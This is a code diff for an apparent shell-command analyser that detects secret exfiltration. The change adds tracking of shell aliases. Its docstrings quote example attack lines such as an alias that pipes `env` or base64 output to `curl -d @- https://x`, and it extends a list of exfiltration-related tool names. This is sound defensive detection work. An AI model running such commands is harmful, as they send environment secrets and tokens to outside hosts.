@@ -89,6 +89,8 @@ class Flow:
     """Origins of secrets written to a file whose name is unknown."""
     texts: dict[str, Origins] = field(default_factory=dict)
     """Shell text (a payload, a `bash -c` body) whose output is a secret -> origins."""
+    aliases: dict[str, str] = field(default_factory=dict)
+    """Alias name -> its text (`alias s='curl -d @- https://x'`): a later `env | s` runs that text."""
     staged: Origins = field(default_factory=set)
     """Origins of secrets in files `git add` staged (or `git commit -a` took): `git push` sends them."""
 
@@ -130,7 +132,11 @@ def on_line(an: Analyser, text: str, simples: list[Simple]) -> None:
                 flow.vars |= pending
                 pending = set()
             continue
+        if s.argv[0] == "alias":
+            _aliases(flow, s.argv[1:])
         invs = _invs(s)
+        if s.argv[0] in flow.aliases:
+            invs += _alias_invs(flow.aliases[s.argv[0]], s)
         own: Origins = set()
         wrapped: Origins = set()
         for inv in invs:
@@ -378,7 +384,7 @@ _DECLARES = frozenset({"export", "declare", "typeset", "local", "readonly"})
 _RUNS_TEXT = SHELLS | {"eval", "source", "."}
 _NAMES = frozenset(T.ENV_DUMPS) | frozenset(T.TOKEN_COMMANDS) | frozenset(T.NET_SINKS) | frozenset(T.REMOTE_EXEC) | \
     frozenset(T.MESSAGES) | \
-    _RUNS_TEXT | {"ps", "tar", "bsdtar", "gtar", "zip", "7z", "7za", "cpio", "rsync", "scp", "cp", "pax", "rclone"}
+    _RUNS_TEXT | {"alias", "ps", "tar", "bsdtar", "gtar", "zip", "7z", "7za", "cpio", "rsync", "scp", "cp", "pax", "rclone"}
 
 
 def _may_matter(s: Simple) -> bool:
@@ -433,6 +439,33 @@ def _sink_files(an: Analyser, flow: Flow, inv: Inv, sink: Sink) -> Origins:
         if secret_path(p) or sink.kind in ("copy", "cloud") and DIRS.search(p) and not under(an.ws, p) and \
                 not WHOLE_HOME.match(p):  # a home copied whole to a host is EXFIL-003's question
             out.add((p, ""))
+    return out
+
+
+def _aliases(flow: Flow, args: list[str]) -> None:
+    for a in args:
+        name, eq, body = a.partition("=")
+        if eq and UNKNOWN not in a and re.match(r"^[\w.-]+$", name):
+            flow.aliases[name] = body
+
+
+def _alias_invs(body: str, s: Simple) -> list[Inv]:
+    """The invocations an alias's text runs, the call's own words after the last (`alias s='base64 | curl -d @-
+    https://x'; env | s`): each is judged as a source and a sink where the alias is called."""
+    import shlex
+
+    try:
+        parts = [shlex.split(p) for p in re.split(r"\|\|?|&&|;", body)]
+    except ValueError:
+        return []
+    parts = [p for p in parts if p]
+    if parts:
+        parts[-1] += s.argv[1:]
+    out = []
+    for words in parts:
+        out.append(Inv(words, s))
+        out += [Inv(inner, s, sudo, via) for inner, sudo, via in unwrap(words, lambda: None)
+                if inner and inner != words and UNKNOWN not in inner[0]]
     return out
 
 
